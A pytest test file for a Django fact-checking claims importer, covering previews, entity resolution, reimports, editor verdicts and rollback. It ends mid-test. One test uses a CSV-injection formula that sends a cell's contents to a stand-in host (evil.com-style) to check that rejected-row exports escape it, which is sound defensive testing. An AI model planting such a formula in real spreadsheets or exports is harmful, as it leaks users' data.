"""Importing claims: preview, apply, entity resolution, idempotency, atomicity and the audit trail."""

import csv
import io
import json
from datetime import date
from decimal import Decimal

import pytest
from django.conf import settings as django_settings
from django.db import DatabaseError, connection, transaction
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from django.utils.formats import date_format
from django.utils.html import escape

from factcheck import importing
from factcheck.exporting import CSV_COLUMNS
from factcheck.models import (
    Appearance,
    AppearanceRevision,
    Article,
    Claim,
    Evidence,
    ImportJob,
    ImportMode,
    ImportState,
    Outlet,
    Speaker,
    VerificationEvent,
)
from factcheck.revisions import writing_as
from factcheck.tests.factories import make_article, make_claim, make_evidence, make_outlet, make_speaker
from factcheck.text import display_name

pytestmark = pytest.mark.django_db

SAMPLE = django_settings.BASE_DIR / "fixtures" / "sample-claims.csv"


def csv_text(*rows, columns=None):
    """A CSV file of `rows` (dicts by column name) under our header, or `columns`."""
    columns = columns or CSV_COLUMNS
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(columns)
    for row in rows:
        writer.writerow([row.get(column, "") for column in columns])
    return out.getvalue()


def write_file(tmp_path, content, name="claims.csv"):
    path = tmp_path / name
    path.write_bytes(content if isinstance(content, bytes) else content.encode())
    return path


def run_import(tmp_path, content, user, *, name="claims.csv", **options):
    return importing.import_file(write_file(tmp_path, content, name), user=user, **options)


def row(text="Russia is training North Korean soldiers.", speaker="Andrii Kovalenko", **fields):
    return {"claim": text, "speaker": speaker, **fields}


def counts():
    models = [Claim, Speaker, Outlet, Article, Appearance, Evidence, VerificationEvent]
    return {model.__name__: model.objects.count() for model in models}


def test_the_sample_file_imports_with_statuses_relays_and_evidence(admin_user):
    job = importing.import_file(SAMPLE, user=admin_user)
    assert job.state == ImportState.SUCCEEDED, job.errors
    assert (job.total_rows, job.created_count, job.rejected_count) == (8, 8, 0)
    zelenskyy = Claim.objects.get(import_key="b17-2024-11-c8")
    chain = list(zelenskyy.appearances.order_by("id").values_list("venue_type", "outlet__name", "relayed_from"))
    origin, first_relay, second_relay = zelenskyy.appearances.order_by("id")
    assert chain[0][:2] == ("public_remarks", None)
    assert (first_relay.outlet.name, first_relay.relayed_from) == ("Kyiv Independent", origin)
    assert (second_relay.outlet.name, second_relay.relayed_from) == ("B-17", first_relay)
    assert zelenskyy.status == "disputed"
    verified = Claim.objects.get(import_key="b17-2024-11-c15")
    event = verified.events.get()
    assert list(event.evidence.values_list("stance", flat=True)) == ["supports"]
    assert Claim.objects.get(text__startswith="North Korea has sent no troops").status == "false"
    assert Article.objects.count() == 1


def test_the_preview_counts_what_would_happen_and_writes_nothing(admin_user):
    make_speaker("Antony Blinken")
    before = counts()
    job = importing.validate(SAMPLE, filename="sample-claims.csv", user=admin_user)
    assert counts() == before
    assert job.state == ImportState.VALIDATED
    assert (job.created_count, job.updated_count, job.unchanged_count) == (8, 0, 0)
    assert job.new_speakers == 6
    assert "Antony Blinken" not in job.summary["new_speaker_names"]
    assert set(job.summary["new_outlet_names"]) == {"B-17", "X", "Kyiv Independent", "KCNA"}


def test_apply_reads_the_staged_rows_not_the_source_file(admin_user, tmp_path):
    path = write_file(tmp_path, csv_text(row()))
    job = importing.validate(path, filename="claims.csv", user=admin_user)
    path.unlink()
    job = importing.apply(job)
    assert job.state == ImportState.SUCCEEDED
    assert Claim.objects.get().text == "Russia is training North Korean soldiers."


def test_apply_reports_progress_in_rows(admin_user, tmp_path, monkeypatch):
    monkeypatch.setattr(importing, "BATCH_ROWS", 2)
    rows = [row(f"Claim number {n}.") for n in range(5)]
    job = importing.validate(write_file(tmp_path, csv_text(*rows)), filename="claims.csv", user=admin_user)
    seen = []
    importing.apply(job, progress=lambda done, total: seen.append((done, total)))
    assert seen == [(2, 5), (4, 5), (5, 5)]


def test_spellings_and_aliases_of_a_name_resolve_to_one_speaker(admin_user, tmp_path):
    zelenskyy = make_speaker("Volodymyr Zelenskyy", aliases=["Zelensky", "Володимир Зеленський"])
    rows = [
        row("There are 11,000 North Korean troops in Kursk.", "Volodymyr Zelenskyy"),
        row("The number of North Korean troops is increasing.", "volodymyr zelenskyy"),
        row("Ukraine has fought North Korean troops.", "Volodymyr  Zelenskyy."),
        row("North Korean troops have come under fire.", "Zelensky"),
        row("Russia is recruiting North Korean troops.", "Володимир Зеленський"),
        row("Russia trains North Koreans on drones.", "Olena Shevchenko"),
        row("North Korea sends shells.", "olena  SHEVCHENKO"),
    ]
    job = run_import(tmp_path, csv_text(*rows), admin_user)
    assert job.state == ImportState.SUCCEEDED, job.errors
    assert Speaker.objects.count() == 2
    assert Claim.objects.filter(speaker=zelenskyy).count() == 5
    assert Speaker.objects.get(normalized_name="olena shevchenko").name == "Olena Shevchenko"
    assert (job.new_speakers, job.summary["new_speaker_names"]) == (1, ["Olena Shevchenko"])


def test_outlets_are_matched_by_their_normalised_name(admin_user, tmp_path):
    kyiv = Outlet.objects.create(name="Kyiv Independent", normalized_name="kyiv independent")
    rows = [
        row("One.", venue="public_remarks", relayed_by="kyiv independent > B-17"),
        row("Two.", venue="interview", outlet="KYIV INDEPENDENT."),
    ]
    run_import(tmp_path, csv_text(*rows), admin_user)
    assert sorted(Outlet.objects.values_list("name", flat=True)) == ["B-17", "Kyiv Independent"]
    assert Appearance.objects.filter(outlet=kyiv).count() == 2


def test_a_row_without_an_id_is_keyed_by_its_speaker_and_text(admin_user, tmp_path):
    rows = [row("Same words.", "Speaker One"), row("Same words.", "Speaker Two"), row(id="c3", text="Keyed.")]
    run_import(tmp_path, csv_text(*rows), admin_user)
    assert Claim.objects.get(speaker__name="Speaker One").import_key == importing.content_key(
        "speaker one", "same words"
    )
    assert Claim.objects.get(text="Keyed.").import_key == "c3"
    assert Claim.objects.count() == 3


def test_a_row_repeated_exactly_is_counted_and_named_as_a_repeat_not_as_an_unchanged_claim(admin_user, tmp_path):
    """No stored claim was unchanged: line 4 only repeats line 2 (it was counted "Unchanged claims 1")."""
    content = csv_text(row("Said once."), row("Said twice."), row("Said once."))
    preview = importing.validate(write_file(tmp_path, content), filename="claims.csv", user=admin_user)
    assert (preview.total_rows, preview.created_count, preview.unchanged_count, preview.rejected_count) == (3, 2, 0, 0)
    assert (preview.summary["repeated_rows"], preview.summary["repeats"]) == (1, [[4, 2]])
    assert "1 row repeats an earlier one (line 4 repeats line 2)" in preview.message
    job = run_import(tmp_path, content, admin_user)
    assert (job.total_rows, job.created_count, job.unchanged_count, job.rejected_count) == (3, 2, 0, 0)
    assert job.summary["repeated_rows"] == 1
    assert job.message.startswith(
        "3 rows: 2 claims were created, 0 updated, 0 unchanged; 1 row repeats an earlier one (line 4 repeats line 2);"
    )
    assert Claim.objects.count() == 2


def test_importing_the_same_file_twice_creates_nothing_and_writes_no_events(admin_user):
    importing.import_file(SAMPLE, user=admin_user)
    before = counts()
    job = importing.import_file(SAMPLE, user=admin_user)
    assert (job.state, job.created_count, job.updated_count, job.unchanged_count) == (ImportState.SUCCEEDED, 0, 0, 8)
    assert (job.new_speakers, job.new_outlets) == (0, 0)
    assert counts() == before


def test_a_changed_status_on_reimport_is_an_update_with_one_event(admin_user, editor, tmp_path):
    run_import(tmp_path, csv_text(row(id="c1", status="unconfirmed")), admin_user)
    job = run_import(tmp_path, csv_text(row(id="c1", status="disputed", status_reason="Blinken says 8,000.")), editor)
    assert (job.created_count, job.updated_count) == (0, 1)
    claim = Claim.objects.get(import_key="c1")
    assert (claim.status, claim.version) == ("disputed", 2)
    event = claim.events.latest()
    assert (event.from_status, event.to_status, event.version, event.by) == ("unconfirmed", "disputed", 2, editor)
    assert event.reason == f"Imported from claims.csv (import #{job.pk}): Blinken says 8,000."


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("Imported from export.csv (import #7): Blinken says 8,000.", "Blinken says 8,000."),
        (
            "Imported from b.csv (import #9): Imported from a.csv (import #2): Blinken says 8,000.",
            "Blinken says 8,000.",
        ),
        ("Imported from export.csv (import #7)", None),
        (
            "Blinken says 8,000. Imported from export.csv (import #7).",
            "Blinken says 8,000. Imported from export.csv (import #7).",
        ),
    ],
)
def test_a_reason_carried_back_from_an_export_is_not_prefixed_again(admin_user, tmp_path, given, kept):
    job = run_import(tmp_path, csv_text(row(id="c1", status="disputed", status_reason=given)), admin_user)
    reason = Claim.objects.get(import_key="c1").events.latest().reason
    assert reason == f"Imported from claims.csv (import #{job.pk})" + (f": {kept}" if kept else "")


def verified_row(**fields):
    evidence = {
        "evidence_url": "https://mod.example/1",
        "evidence_summary": "Confirmed.",
        "evidence_stance": "supports",
    }
    return row(id="c1", status="verified", **evidence, **fields)


@pytest.mark.parametrize(("status", "stance"), [("verified", "supports"), ("false", "refutes")])
def test_a_verdict_without_its_evidence_is_refused_naming_the_columns_to_fill(admin_user, tmp_path, status, stance):
    new = run_import(tmp_path, csv_text(row(id="c1", status=status)), admin_user)
    run_import(tmp_path, csv_text(row(id="c2")), admin_user)
    known = run_import(tmp_path, csv_text(row(id="c2", status=status)), admin_user)
    for job in (new, known):
        assert job.state == ImportState.INVALID
        error = str(importing.LineError(**job.errors[0]))
        assert f"evidence before marking it {status}" in error
        assert f"evidence_url (or evidence_citation), evidence_summary and evidence_stance {stance}" in error


def test_a_reimport_cannot_flip_a_verdict_in_one_step(admin_user, tmp_path):
    run_import(tmp_path, csv_text(verified_row()), admin_user)
    before = counts()
    flipped = row(id="c1", status="false", evidence_url="https://x.example/", evidence_summary="No.")
    job = run_import(tmp_path, csv_text(flipped), admin_user)
    assert job.state == ImportState.INVALID
    assert str(importing.LineError(**job.errors[0])).startswith("claims.csv:2:22: status: A claim marked “Verified”")
    assert counts() == before
    job = run_import(tmp_path, csv_text(flipped), admin_user, mode=ImportMode.SKIP_INVALID)
    assert (job.state, job.rejected_count, job.updated_count) == (ImportState.SUCCEEDED, 1, 0)
    assert Claim.objects.get().status == "verified"


def test_a_reimport_without_a_status_keeps_the_verdict_an_editor_gave_since(admin_user, editor, tmp_path):
    run_import(tmp_path, csv_text(row(id="c1"), columns=["id", "claim", "speaker"]), admin_user)
    claim = Claim.objects.get()
    claim.set_status("disputed", by=editor, reason="Two officials disagree.")
    job = run_import(tmp_path, csv_text(row(id="c1"), columns=["id", "claim", "speaker"]), admin_user)
    assert job.unchanged_count == 1
    assert Claim.objects.get().status == "disputed"


def test_reimporting_the_same_file_never_undoes_a_verdict_an_editor_gave_since(admin_user, editor, tmp_path):
    """The desk's sheet still says unconfirmed; an editor has verified the claim since. The import
    refuses the row, saying why, instead of turning the verdict back and counting it "updated"."""
    sheet = csv_text(row(id="c1", status="unconfirmed"), row("Another claim.", id="c2", status="unconfirmed"))
    run_import(tmp_path, sheet, admin_user)
    claim = Claim.objects.get(import_key="c1")
    make_evidence(claim, "supports")
    claim.set_status("verified", by=editor, reason="The ministry confirmed it.")
    before = counts()
    job = run_import(tmp_path, sheet, admin_user)
    assert job.state == ImportState.INVALID
    assert [str(importing.LineError(**error)) for error in job.errors] == [
        "claims.csv:2:22: status: an editor decided this claim is “Verified”; an import does not change "
        "an editor's verdict: change it on the claim's page, or leave its status empty in the file"
    ]
    assert counts() == before
    job = run_import(tmp_path, sheet, admin_user, mode=ImportMode.SKIP_INVALID)
    assert (job.updated_count, job.unchanged_count, job.rejected_count) == (0, 1, 1)
    claim.refresh_from_db()
    assert (claim.status, claim.events.latest().by) == ("verified", editor)


def test_an_import_that_spares_editors_verdicts_costs_the_same_queries_however_many_rows(admin_user, editor, tmp_path):
    def queries_for(count):
        keys = [f"q{count}-{n}" for n in range(count)]
        sheet = [row(f"Claim {key}.", id=key, status="unconfirmed") for key in keys]
        run_import(tmp_path, csv_text(*sheet), admin_user)
        for claim in Claim.objects.filter(import_key__in=keys[::2]):
            claim.set_status("disputed", by=editor, reason="Two officials disagree.")
        sheet = [row(f"Claim {key}.", id=key, status=("unconfirmed", "disputed")[n % 2]) for n, key in enumerate(keys)]
        with CaptureQueriesContext(connection) as queries:
            job = run_import(tmp_path, csv_text(*sheet), admin_user, mode=ImportMode.SKIP_INVALID)
        assert (job.updated_count, job.rejected_count) == (count // 2, count // 2)
        return len(queries)

    assert queries_for(4) == queries_for(40)


def test_an_import_asks_once_which_of_the_claims_it_moves_hold_an_editors_verdict(admin_user, editor, tmp_path):
    """Asked when the rows are planned, with the claims locked, and asked again when their statuses were
    written: the same answer, 0.1-0.5 s of PostgreSQL's time for a chunk of 5,000 status changes."""
    keys = [f"c{n}" for n in range(4)]
    run_import(tmp_path, csv_text(*[row(f"Claim {key}.", id=key, status="unconfirmed") for key in keys]), admin_user)
    Claim.objects.get(import_key="c0").set_status("disputed", by=editor, reason="Two officials disagree.")
    sheet = [row(f"Claim {key}.", id=key, status="disputed" if key != "c0" else "unconfirmed") for key in keys]
    with CaptureQueriesContext(connection) as queries:
        job = run_import(tmp_path, csv_text(*sheet), admin_user, mode=ImportMode.SKIP_INVALID)
    assert (job.updated_count, job.rejected_count) == (3, 1)  # c0's verdict is an editor's: kept
    asked = [query["sql"] for query in queries if query["sql"].startswith("SELECT") and "decided_here" in query["sql"]]
    assert len(asked) == 1


def test_a_status_an_import_gave_may_be_changed_by_the_next_import(admin_user, editor, tmp_path):
    run_import(tmp_path, csv_text(row(id="c1", status="unconfirmed")), admin_user)
    Claim.objects.get().set_attribution("relayed", by=editor, reason="Only B-17 has it.")  # not a verdict
    job = run_import(tmp_path, csv_text(row(id="c1", status="disputed")), admin_user)
    assert (job.state, job.updated_count) == (ImportState.SUCCEEDED, 1)
    assert Claim.objects.get().status == "disputed"


def test_a_reimport_extends_a_relay_chain_and_adds_new_evidence(admin_user, tmp_path):
    first = row(id="c1", venue="social_media_post", outlet="X", relayed_by="Kyiv Independent")
    run_import(tmp_path, csv_text(first), admin_user)
    longer = {**first, "relayed_by": "Kyiv Independent > B-17", "evidence_url": "https://x.example/post"}
    job = run_import(tmp_path, csv_text({**longer, "evidence_summary": "The post itself."}), admin_user)
    assert job.updated_count == 1
    origin, kyiv, b17 = Claim.objects.get().appearances.order_by("id")
    assert (kyiv.relayed_from, b17.relayed_from, b17.outlet.name) == (origin, kyiv, "B-17")
    assert Evidence.objects.get().stance == "context"
    assert (
        run_import(tmp_path, csv_text({**longer, "evidence_summary": "The post itself."}), admin_user).unchanged_count
        == 1
    )


@pytest.mark.parametrize("earlier", ["2.5", "0.125", "1.12345", "1234.567", "1,000"])
def test_a_figure_of_three_decimals_is_one_when_the_column_showed_a_decimal_point_before(earlier, admin_user, tmp_path):
    """A desk grouping thousands with a point writes neither 2.5 nor 1,000: the file's 1.125 is one and
    an eighth. (1.12345 itself is too precise to store, and refused, but says how the file writes.)"""
    sheet = csv_text(row("An earlier figure.", quantity_value=earlier), row(quantity_value="1.125"))
    job = run_import(tmp_path, sheet, admin_user, mode=ImportMode.SKIP_INVALID)
    assert Claim.objects.get(text=row()["claim"]).quantity_value == Decimal("1.125"), job.errors


def test_a_sheet_giving_when_claims_were_said_but_not_how_imports_them_with_their_dates(admin_user, tmp_path):
    """A desk's sheet of claim, speaker and date: each row used to be refused for want of a venue.
    The appearance is recorded with its venue not stated, as a ClaimReview appearance without words
    is (it was recorded as public remarks, which the sheet never said), and says nothing of who
    heard the speaker: the attribution is left not checked."""
    sheet = "claim,speaker,date\nRussia is training soldiers.,Andrii Kovalenko,2024-11-03\n"
    job = run_import(tmp_path, sheet, admin_user)
    assert (job.state, job.created_count) == (ImportState.SUCCEEDED, 1), job.errors
    claim = Claim.objects.get()
    assert list(claim.appearances.values_list("venue_type", "date")) == [("not_stated", date(2024, 11, 3))]
    assert claim.attribution == "not_checked"
    assert run_import(tmp_path, sheet, admin_user).unchanged_count == 1  # the same appearance, not another


@pytest.mark.parametrize(("outlet", "attribution"), [("", "not_checked"), ("B-17", "confirmed"), ("CNN", "relayed")])
def test_a_statement_to_an_outlet_starts_as_the_attribution_rules_read_its_outlet(
    admin_user, tmp_path, outlet, attribution
):
    """Said to the story's own outlet: heard first-hand; to another: relayed; to an outlet nobody
    named: not checked, as the story desk and the admin read it (an empty outlet had read as relayed)."""
    sheet = csv_text(row(venue="statement_to_outlet", outlet=outlet, article_outlet="B-17", article_headline="Port"))
    job = run_import(tmp_path, sheet, admin_user)
    assert job.created_count == 1, job.errors
    assert Claim.objects.get().attribution == attribution


def test_a_story_tracked_without_its_address_is_the_story_a_row_gives_with_one(admin_user, tmp_path):
    """Pasted at the desk without a URL, then imported from a sheet that has it: the sheet's rows made a
    second story of the same headline and outlet (the demo's story, imported from the sample file, twice)."""
    tracked = make_article(make_outlet("B-17"), headline="Port to reopen", url="")
    elsewhere = make_article(make_outlet("CNN"), headline="Port to reopen", url="")
    story = {"article_outlet": "B-17", "article_headline": "Port to reopen"}
    sheet = csv_text(
        row("The port reopens on Monday.", article_url="https://b17.example/port", **story),
        row("Ferries resume.", article_url="https://b17.example/other", **{**story, "article_headline": "Ferries"}),
    )
    job = run_import(tmp_path, sheet, admin_user)
    assert job.created_count == 2, job.errors
    assert Claim.objects.get(text="The port reopens on Monday.").article == tracked
    assert Claim.objects.get(text="Ferries resume.").article.url == "https://b17.example/other"  # a story new to us
    assert Article.objects.count() == 3 and not elsewhere.claims.exists()


def test_a_story_tracked_without_its_address_is_not_a_story_of_the_same_headline_another_day(admin_user, tmp_path):
    """Headlines repeat ("Live updates", "Morning briefing"): a tracked story dated one day is not the story
    a row dates another; a row that gives no date, or a story tracked without one, still matches."""
    b17 = make_outlet("B-17")
    tracked = make_article(b17, headline="Live updates", url="", published=date(2026, 3, 1))
    undated = make_article(b17, headline="Morning briefing", url="")
    story = {"article_outlet": "B-17", "article_headline": "Live updates"}
    sheet = csv_text(
        row(
            "The port reopens on Monday.",
            article_url="https://b17.example/live-0301",
            article_date="2026-03-01",
            **story,
        ),
        row("Ferries resume.", article_url="https://b17.example/live-0509", article_date="2026-05-09", **story),
        row("Trains run late.", article_date="2026-05-10", **story),
        row("Buses run early.", article_date="2026-05-11", **story),
        row(
            "Fog lifts by noon.", article_date="2026-05-12", article_outlet="B-17", article_headline="Morning briefing"
        ),
    )
    job = run_import(tmp_path, sheet, admin_user)
    assert job.created_count == 5, job.errors
    assert Claim.objects.get(text="The port reopens on Monday.").article == tracked
    assert Claim.objects.get(text="Ferries resume.").article.url == "https://b17.example/live-0509"
    # Two days without an address: two stories, neither the one tracked for the 1st of March.
    later = {Claim.objects.get(text=text).article for text in ("Trains run late.", "Buses run early.")}
    assert len(later) == 2 and tracked not in later
    assert {article.published for article in later} == {date(2026, 5, 10), date(2026, 5, 11)}
    assert Claim.objects.get(text="Fog lifts by noon.").article == undated


def test_two_addresses_for_the_headline_of_a_story_tracked_without_one_link_neither(admin_user, tmp_path):
    """Which of two stories of one headline is the one pasted at the desk, no row says: each is a story of
    its own, rather than both claims filed under one (found later by its address, never merged unseen)."""
    tracked = make_article(make_outlet("B-17"), headline="Live updates", url="")
    story = {"article_outlet": "B-17", "article_headline": "Live updates"}
    sheet = csv_text(
        row("The port reopens on Monday.", article_url="https://b17.example/live-1", **story),
        row("Ferries resume.", article_url="https://b17.example/live-2", **story),
        row("Tugs stand by.", article_url="https://b17.example/live-2", **story),
    )
    job = run_import(tmp_path, sheet, admin_user)
    assert job.created_count == 3, job.errors
    assert not tracked.claims.exists()
    assert Claim.objects.get(text="Ferries resume.").article == Claim.objects.get(text="Tugs stand by.").article
    assert Article.objects.count() == 3


def test_a_headline_two_stories_tracked_without_an_address_share_links_neither(admin_user, tmp_path):
    b17 = make_outlet("B-17")
    twins = [make_article(b17, headline="Live updates", url="") for _ in range(2)]
    sheet = csv_text(
        row(article_url="https://b17.example/live", article_outlet="B-17", article_headline="Live updates")
    )
    job = run_import(tmp_path, sheet, admin_user)
    assert job.created_count == 1, job.errors
    assert Claim.objects.get().article not in twins


def test_a_reimport_updates_changed_fields_without_an_event(admin_user, tmp_path):
    run_import(tmp_path, csv_text(row(id="c1", quote="old words", quantity_value="8000")), admin_user)
    job = run_import(tmp_path, csv_text(row(id="c1", quote="new words", quantity_value="8,000")), admin_user)
    assert job.updated_count == 1
    claim = Claim.objects.get()
    assert (claim.quote, claim.quantity_value, claim.version, claim.events.count()) == ("new words", 8000, 1, 1)


def test_every_imported_status_has_its_event_by_the_importer_naming_the_import(admin_user):
    job = importing.import_file(SAMPLE, user=admin_user)
    for claim in Claim.objects.all():
        events = list(claim.events.order_by("version"))
        assert claim.status == events[-1].to_status
        assert claim.version == len(events) == events[-1].version
        assert events[0].from_status is None
        assert all(event.by == admin_user for event in events)
        assert all(event.reason.startswith(f"Imported from sample-claims.csv (import #{job.pk})") for event in events)
        assert claim.status_changed_by == admin_user
    false = Claim.objects.get(status="false")
    assert list(false.events.get().evidence.values_list("stance", flat=True)) == ["refutes"]


@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_a_database_error_at_row_n_leaves_nothing_of_the_file(admin_user, tmp_path, monkeypatch):
    monkeypatch.setattr(importing, "BATCH_ROWS", 3)
    insert = importing.writing.insert
    calls = []

    def failing_insert(model, columns, rows):
        calls.append(model)
        if model is Claim and calls.count(Claim) == 3:  # the third chunk: rows 7 to 9
            raise DatabaseError("injected failure")
        insert(model, columns, rows)

    monkeypatch.setattr(importing.writing, "insert", failing_insert)
    before = counts()
    job = run_import(tmp_path, csv_text(*[row(f"Claim {n}.", f"Speaker {n}") for n in range(10)]), admin_user)
    assert job.state == ImportState.FAILED
    assert "injected failure" in job.message
    assert counts() == before
    assert ImportJob.objects.get(pk=job.pk).state == ImportState.FAILED


def test_skipping_invalid_rows_commits_the_valid_ones_and_keeps_the_rejected_ones(admin_user, tmp_path):
    rows = [row("Good one."), row("Bad one.", status="maybe"), row("Good two."), row("", "Nobody"), row("Good three.")]
    job = run_import(tmp_path, csv_text(*rows), admin_user, mode=ImportMode.SKIP_INVALID)
    assert (job.state, job.total_rows, job.created_count, job.rejected_count) == (ImportState.SUCCEEDED, 5, 3, 2)
    assert job.created_count + job.updated_count + job.unchanged_count + job.rejected_count == job.total_rows
    with open(importing.rejected_rows_path(job), newline="", encoding="utf-8") as rejected:
        lines = list(csv.DictReader(rejected))
    assert [(line["line"], line["column"], line["field"]) for line in lines] == [
        ("3", "22", "status"),
        ("5", "2", "claim"),
    ]
    assert lines[0]["claim"] == "Bad one." and lines[0]["status"] == "maybe"
    assert "“maybe” is not one of" in lines[0]["error"]


def test_the_rejected_rows_header_cannot_run_as_a_formula_either(admin_user, tmp_path):
    """An unknown column is ignored on the way in, but rejected.csv, opened in a spreadsheet, gives the header back."""
    formula = '=HYPERLINK("https://evil.example/?leak="&A2,"Open")'
    text = csv_text(row("Bad one.", status="maybe"), columns=["claim", "speaker", "status", formula])
    job = run_import(tmp_path, text, admin_user, mode=ImportMode.SKIP_INVALID)
    assert job.rejected_count == 1
    with open(importing.rejected_rows_path(job), newline="", encoding="utf-8") as rejected:
        header = next(csv.reader(rejected))
    assert header == ["line", "column", "field", "error", "claim", "speaker", "status", "'" + formula]


def test_line_breaks_in_an_imported_claim_are_one_space_so_a_repeat_is_found(admin_user, tmp_path):
    # A spreadsheet cell's line break ("\r\n" or "\n") was stored in the claim, and a row
    # repeating the claim on one line was "the same claim with other values", an error.
    content = b'claim,speaker\n"Kyiv is\r\nquiet.",Andrii Kovalenko\n"Kyiv is quiet.",Andrii Kovalenko\n'
    job = run_import(tmp_path, content, admin_user)
    assert (job.state, job.created_count, job.summary["repeated_rows"]) == (ImportState.SUCCEEDED, 1, 1), job.errors
    records = [row("Drones hit\r\nOdesa."), row("Drones  hit\nOdesa.")]
    job = run_import(tmp_path, json.dumps(records), admin_user, name="claims.json")
    assert (job.state, job.created_count, job.summary["repeated_rows"]) == (ImportState.SUCCEEDED, 1, 1), job.errors
    assert sorted(Claim.objects.values_list("text", flat=True)) == ["Drones hit Odesa.", "Kyiv is quiet."]


def test_a_row_repeating_a_refused_row_is_rejected_with_it_when_skipping(admin_user, tmp_path):
    # A repeat was counted unchanged as it was read, before the database side refused the row
    # it repeats: "1 unchanged" for a claim that was never written.
    refused = row("Kyiv is quiet.", status="verified")
    by_command = run_import(
        tmp_path, csv_text(refused, refused, row("Odesa is calm.")), admin_user, mode="skip_invalid"
    )
    previewed = importing.validate(
        write_file(tmp_path, csv_text(refused, refused, row("Lviv is calm."))),
        filename="claims.csv",
        user=admin_user,
        mode=ImportMode.SKIP_INVALID,
    )
    assert (previewed.created_count, previewed.unchanged_count, previewed.rejected_count) == (1, 0, 2)
    for job in [by_command, importing.apply(previewed)]:
        assert (job.state, job.created_count, job.unchanged_count, job.rejected_count) == (
            ImportState.SUCCEEDED,
            1,
            0,
            2,
        ), job.errors
        with open(importing.rejected_rows_path(job), newline="", encoding="utf-8") as rejected:
            lines = list(csv.DictReader(rejected))
        assert [(line["line"], line["field"]) for line in lines] == [("2", "status"), ("3", "status")]
        assert lines[1]["error"].startswith("status: repeats line 2, which is refused: Add at least one piece of")
    assert not Claim.objects.filter(text="Kyiv is quiet.").exists()


def test_a_row_repeating_a_written_row_is_a_repeat(admin_user, tmp_path):
    job = run_import(tmp_path, csv_text(row(), row(), row("Kyiv is quiet.")), admin_user, mode=ImportMode.SKIP_INVALID)
    assert (job.created_count, job.unchanged_count, job.rejected_count, job.summary["repeated_rows"]) == (2, 0, 0, 1)


def test_an_all_or_nothing_import_with_a_bad_row_reports_every_error_and_stages_nothing(admin_user, tmp_path):
    rows = [row("Good one."), row("Bad one.", status="maybe"), row("", "Nobody")]
    job = importing.validate(write_file(tmp_path, csv_text(*rows)), filename="claims.csv", user=admin_user)
    assert (job.state, job.rejected_count, job.staged_path) == (ImportState.INVALID, 2, "")
    assert [(error["line"], error["field"]) for error in job.errors] == [(3, "status"), (4, "claim")]
    assert not (importing.job_directory(job) / "staged.jsonl").exists()
    assert importing.rejected_rows_path(job)
    with pytest.raises(ValueError, match="only a validated import"):
        importing.apply(job)


def test_a_status_change_refused_since_the_preview_fails_the_import(admin_user, editor, tmp_path):
    run_import(tmp_path, csv_text(row(id="c1")), admin_user)
    refuted = row(id="c1", status="false", evidence_url="https://x.example/", evidence_summary="Refuted.")
    job = importing.validate(
        write_file(tmp_path, csv_text(refuted, row(id="c2"))), filename="claims.csv", user=admin_user
    )
    assert (job.state, job.updated_count, job.created_count) == (ImportState.VALIDATED, 1, 1)
    claim = Claim.objects.get(import_key="c1")
    make_evidence(claim, "supports")
    claim.set_status("verified", by=editor, reason="Confirmed meanwhile.")
    before = counts()
    job = importing.apply(job)
    assert job.state == ImportState.FAILED
    assert (job.errors[0]["line"], job.errors[0]["field"]) == (2, "status")
    assert counts() == before


def test_a_status_change_refused_since_the_preview_rejects_only_that_row_when_skipping(admin_user, editor, tmp_path):
    run_import(tmp_path, csv_text(row(id="c1")), admin_user)
    refuted = row(id="c1", status="false", evidence_url="https://x.example/", evidence_summary="Refuted.")
    path = write_file(tmp_path, csv_text(refuted, row(id="c2")))
    job = importing.validate(path, filename="claims.csv", user=admin_user, mode=ImportMode.SKIP_INVALID)
    claim = Claim.objects.get(import_key="c1")
    make_evidence(claim, "supports")
    claim.set_status("verified", by=editor, reason="Confirmed meanwhile.")
    job = importing.apply(job)
    assert (job.state, job.created_count, job.rejected_count, job.total_rows) == (ImportState.SUCCEEDED, 1, 1, 2)
    assert Claim.objects.get(import_key="c1").status == "verified"
    assert "an editor decided this claim is “Verified”" in importing.rejected_rows_path(job).read_text()


def refused_since_the_preview(admin_user, editor, tmp_path, monkeypatch, mode, refused=(3,)):
    """A previewed import of seven rows c1 to c7 (c<n> on line n + 1), two a chunk, whose rows `refused`
    refute claims an editor has verified since the preview: the rules refuse those rows now. By
    default the fourth line, in the second of four chunks."""
    monkeypatch.setattr(importing, "BATCH_ROWS", 2)
    run_import(tmp_path, csv_text(*[row(id=f"c{n}") for n in refused]), admin_user)
    refuted = {"status": "false", "evidence_url": "https://x.example/", "evidence_summary": "Refuted."}
    rows = [
        row(id=f"c{n}", **refuted) if n in refused else row(f"Claim {n}.", f"Speaker {n}", id=f"c{n}")
        for n in range(1, 8)
    ]
    path = write_file(tmp_path, csv_text(*rows))
    job = importing.validate(path, filename="claims.csv", user=admin_user, mode=mode)
    assert (job.state, job.created_count, job.updated_count) == (ImportState.VALIDATED, 7 - len(refused), len(refused))
    for claim in Claim.objects.filter(import_key__in=[f"c{n}" for n in refused]):
        make_evidence(claim, "supports")
        claim.set_status("verified", by=editor, reason="Confirmed meanwhile.")
    return job


def test_a_refusal_in_a_later_chunk_fails_the_whole_import_and_stops_the_writing_there(
    admin_user, editor, tmp_path, monkeypatch
):
    """The admin sees a failed import naming the refused line, and not one claim of it: not the chunk
    written before the refusal, not the rows after it, which are only checked."""
    job = refused_since_the_preview(admin_user, editor, tmp_path, monkeypatch, ImportMode.ATOMIC)
    before = counts()
    seen = []
    job = importing.apply(job, progress=lambda done, total: seen.append((done, total)))
    assert job.state == ImportState.FAILED
    assert (
        job.message
        == "Claims changed since the preview and the rules now refuse 1 of the 7 rows. Nothing was imported."
    )
    (error,) = (str(importing.LineError(**error)) for error in job.errors)
    assert error.startswith("claims.csv:4:22: status: an editor decided this claim is “Verified”; an import does not")
    assert (job.created_count, job.updated_count, job.unchanged_count, job.processed_rows) == (0, 0, 0, 0)
    assert seen == [(2, 7)] * 4  # the first chunk written (then undone), the second refused, the rest checked
    assert counts() == before
    assert not Claim.objects.filter(import_key__in=["c1", "c2", "c4", "c5", "c6", "c7"]).exists()
    assert Claim.objects.get(import_key="c3").status == "verified"
    stored = ImportJob.objects.get(pk=job.pk)
    assert (stored.state, stored.errors, stored.staged_path) == (ImportState.FAILED, job.errors, "")
    assert not (importing.job_directory(job) / "staged.jsonl").exists()


def test_a_refusal_in_a_later_chunk_rejects_only_its_row_when_skipping(admin_user, editor, tmp_path, monkeypatch):
